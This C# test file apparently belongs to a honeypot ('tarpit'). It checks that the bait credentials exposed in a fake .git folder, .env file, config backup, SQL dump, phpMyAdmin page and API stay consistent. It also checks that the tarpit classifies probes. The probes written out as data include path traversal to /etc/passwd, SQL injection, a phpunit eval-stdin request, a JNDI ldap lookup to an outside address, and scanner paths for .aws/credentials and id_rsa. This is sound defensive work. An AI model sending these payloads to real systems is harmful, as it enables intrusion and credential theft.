using System.Diagnostics;
using System.IO.Compression;
using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Blackwall.Tarpit.Files;
using Blackwall.Tarpit.Recording;
using Blackwall.Tarpit.World;
using Xunit;

namespace Blackwall.Tarpit.Tests.Http;

/// <summary>What lies about below the web root holds together: each credential is the same everywhere and opens what it says it opens.</summary>
public sealed partial class BaitTests : IAsyncDisposable
{
    private readonly RunningTarpit _tarpit = new(RunningTarpit.Quick with { Accept = TarpitSettings.AcceptNever }, seemingPort: 80);
    private readonly HttpClient _client;

    public BaitTests() => _client = WebClient.Create(_tarpit);

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    private BaitCredentials Bait => _tarpit.Runtime.Website.Credentials;

    public async ValueTask DisposeAsync()
    {
        _client.Dispose();
        await _tarpit.DisposeAsync();
    }

    [Fact]
    public async Task Git_restores_a_working_tree_from_what_can_be_fetched()
    {
        string folder = Directory.CreateTempSubdirectory("bait-").FullName;
        try
        {
            Queue<string> wanted = new(["HEAD", "config", "index", "refs/heads/main", "logs/HEAD", "description", "info/exclude", "objects/info/packs"]);
            HashSet<string> seen = new(wanted, StringComparer.Ordinal);
            while (wanted.TryDequeue(out string? path))
            {
                byte[] content = await _client.GetByteArrayAsync("/.git/" + path, Cancellation);
                Directory.CreateDirectory(Path.GetDirectoryName(Path.Combine(folder, ".git", path))!);
                await File.WriteAllBytesAsync(Path.Combine(folder, ".git", path), content, Cancellation);
                string text = path.StartsWith("objects/", StringComparison.Ordinal) && path is not "objects/info/packs" ? await Git(folder, "cat-file", "-p", path["objects/".Length..].Replace("/", "", StringComparison.Ordinal)) : Encoding.Latin1.GetString(content);
                foreach (Match hash in Hash().Matches(text).Where(hash => hash.Value.Any(c => c is not '0') && !string.Equals(hash.Value, Bait.ApiToken, StringComparison.Ordinal)))
                {
                    string next = $"objects/{hash.Value[..2]}/{hash.Value[2..]}";
                    if (seen.Add(next))
                    {
                        wanted.Enqueue(next);
                    }
                }
            }

            Assert.DoesNotContain("missing", await Git(folder, "fsck", "--full", "--strict"), StringComparison.Ordinal);
            await Git(folder, "checkout", "--", ".");
            Assert.Equal("", await Git(folder, "status", "--porcelain"));
            Assert.Equal(3, (await Git(folder, "log", "--format=%s")).Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
            Assert.Contains($"'{Bait.Website.Password}'", await File.ReadAllTextAsync(Path.Combine(folder, "wp-config.php"), Cancellation), StringComparison.Ordinal);
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    [Fact]
    public async Task The_same_credentials_stand_in_all_of_them_and_the_database_takes_them()
    {
        string environment = await _client.GetStringAsync("/.env", Cancellation), configuration = await _client.GetStringAsync("/wp-config.php.bak", Cancellation);
        Assert.Contains($"WP_DB_PASSWORD={Bait.Website.Password}", environment, StringComparison.Ordinal);
        Assert.Contains($"define( 'DB_PASSWORD', '{Bait.Website.Password}' );", configuration, StringComparison.Ordinal);
        Assert.True(Bait.IsDatabaseLogin(Bait.Website.User, Bait.Website.Password));
        Assert.False(Bait.IsDatabaseLogin(Bait.Website.User, "other"));

        using GZipStream gzip = new(await _client.GetStreamAsync("/backup.sql.gz", Cancellation), CompressionMode.Decompress);
        using StreamReader reader = new(gzip);
        string dump = await reader.ReadToEndAsync(Cancellation);
        Assert.All(_tarpit.Runtime.Website.Users, user => Assert.Contains($"'{user.Login}','{user.PasswordHash}'", dump, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Who_logs_in_finds_the_same_files_below_the_web_root()
    {
        FolderNode www = (FolderNode)((FolderNode)((FolderNode)BaseTree.Build(_tarpit.Runtime.Machine).Entries["var"]).Entries["www"]).Entries["html"];
        Assert.False(www.Entries.ContainsKey("index.html"));
        foreach (string name in new[] { ".env", "wp-config.php.bak" })
        {
            Assert.Equal(await _client.GetByteArrayAsync("/" + name, Cancellation), ((FileNode)www.Entries[name]).Content.Read());
        }
    }

    [Fact]
    public async Task PhpMyAdmin_takes_what_the_configuration_says_and_refuses_the_rest()
    {
        using HttpResponseMessage wrong = await PostAsync("/phpmyadmin/index.php", ("pma_username", "root"), ("pma_password", "root"));
        Assert.Contains("Access denied for user &#039;root&#039;@&#039;localhost&#039; (using password: YES)", await wrong.Content.ReadAsStringAsync(Cancellation), StringComparison.Ordinal);
        using HttpResponseMessage right = await PostAsync("/phpmyadmin/index.php", ("pma_username", Bait.Website.User), ("pma_password", Bait.Website.Password));
        Assert.Equal(HttpStatusCode.Found, right.StatusCode);
        Assert.Equal([false, true], _tarpit.Records.Observations.Where(o => o.Kind is ObservationKinds.Login).Select(o => o.Success!.Value));
        using HttpRequestMessage inside = new(HttpMethod.Get, "/phpmyadmin/index.php?route=/sql&db=wordpress&table=wp_users");
        inside.Headers.Add("Cookie", string.Join("; ", right.Headers.GetValues("Set-Cookie").Select(cookie => cookie.Split(';')[0])));
        using HttpResponseMessage table = await _client.SendAsync(inside, Cancellation);
        Assert.Contains(_tarpit.Runtime.Website.Users[0].PasswordHash, await table.Content.ReadAsStringAsync(Cancellation), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_api_gives_a_token_for_what_the_environment_says_and_lists_for_the_token()
    {
        using StringContent wrong = new("{\"username\":\"admin\",\"password\":\"admin\"}", Encoding.UTF8, "application/json");
        using HttpResponseMessage refused = await _client.PostAsync("/api/v1/login", wrong, Cancellation);
        Assert.Equal(HttpStatusCode.Unauthorized, refused.StatusCode);
        using StringContent right = new($"{{\"username\":\"{Bait.Administrator.User}\",\"password\":\"{Bait.Administrator.Password}\"}}", Encoding.UTF8, "application/json");
        using HttpResponseMessage accepted = await _client.PostAsync("/api/v1/login", right, Cancellation);
        string token = (string)JsonNode.Parse(await accepted.Content.ReadAsStringAsync(Cancellation))!["token"]!;
        Assert.Equal(HttpStatusCode.OK, await UsersAsync(token));
        Assert.Equal(HttpStatusCode.OK, await UsersAsync(Bait.ApiToken));
        Assert.Equal(HttpStatusCode.Unauthorized, await UsersAsync("other"));
        Assert.Equal(["json", "json", "token", "token", "token"], _tarpit.Records.Observations.Where(o => o.Kind is ObservationKinds.Login).Select(o => o.Method));
    }

    [Fact]
    public async Task Only_a_handful_of_what_scanners_ask_for_is_there()
    {
        string[] asked = ["/.env", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/backup.sql", "/backup.zip", "/dump.sql", "/db.sql", "/config.php.bak", "/wp-config.php.bak", "/wp-config.old", "/phpinfo.php", "/info.php", "/test.php", "/adminer.php", "/.aws/credentials", "/id_rsa", "/server-status", "/actuator/env", "/.vscode/sftp.json", "/web.config", "/composer.lock"];
        List<string> found = [];
        foreach (string path in asked)
        {
            using HttpResponseMessage answer = await _client.GetAsync(path, Cancellation);
            if (answer.StatusCode == HttpStatusCode.OK)
            {
                found.Add(path);
            }
        }

        Assert.Equal(["/.env", "/.git/HEAD", "/wp-config.php.bak", "/phpinfo.php"], found);
        using HttpResponseMessage status = await _client.GetAsync("/server-status", Cancellation);
        Assert.Equal(HttpStatusCode.Forbidden, status.StatusCode);
    }

    [Theory]
    [InlineData("/index.php?page=../../../../etc/passwd", "path-traversal")]
    [InlineData("/?id=1%27%20UNION%20SELECT%201--", "sql-injection")]
    [InlineData("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "code-injection")]
    [InlineData("/?x=%24%7Bjndi:ldap://192.0.2.80/a%7D", "jndi-injection")]
    [InlineData("/?s=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "path-traversal")]
    [InlineData("/hello-world/?replytocom=1", null)]
    [InlineData("/?s=selection+of+unions", null)]
    [InlineData("/wp-login.php?redirect_to=http%3A%2F%2Fshop.test%2Fwp-admin%2F", null)]
    public async Task A_request_that_tries_to_break_in_is_told_apart_from_one_that_looks_around(string target, string? sign)
    {
        using HttpResponseMessage answer = await _client.GetAsync(target, Cancellation);
        Assert.Equal(sign, _tarpit.Records.Last(ObservationKinds.Exploit)?.Name);
        Assert.NotNull(_tarpit.Records.Last(ObservationKinds.Request));
    }

    private static async Task<string> Git(string folder, params string[] arguments)
    {
        ProcessStartInfo start = new("git", ["-C", folder, "-c", "safe.directory=*", .. arguments]) { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
        using Process git = Process.Start(start)!;
        Task<string> errors = git.StandardError.ReadToEndAsync(Cancellation);
        string output = await git.StandardOutput.ReadToEndAsync(Cancellation);
        await git.WaitForExitAsync(Cancellation);
        Assert.True(git.ExitCode == 0 || arguments[0] is "cat-file", await errors);
        return output;
    }

    private async Task<HttpResponseMessage> PostAsync(string path, params (string Name, string Value)[] fields)
    {
        using FormUrlEncodedContent form = new(fields.Select(field => new KeyValuePair<string, string>(field.Name, field.Value)));
        return await _client.PostAsync(path, form, Cancellation);
    }

    private async Task<HttpStatusCode> UsersAsync(string token)
    {
        using HttpRequestMessage request = new(HttpMethod.Get, "/api/v1/users");
        request.Headers.Add("Authorization", $"Bearer {token}");
        using HttpResponseMessage answer = await _client.SendAsync(request, Cancellation);
        return answer.StatusCode;
    }

    [GeneratedRegex("[0-9a-f]{40}", RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex Hash();
}
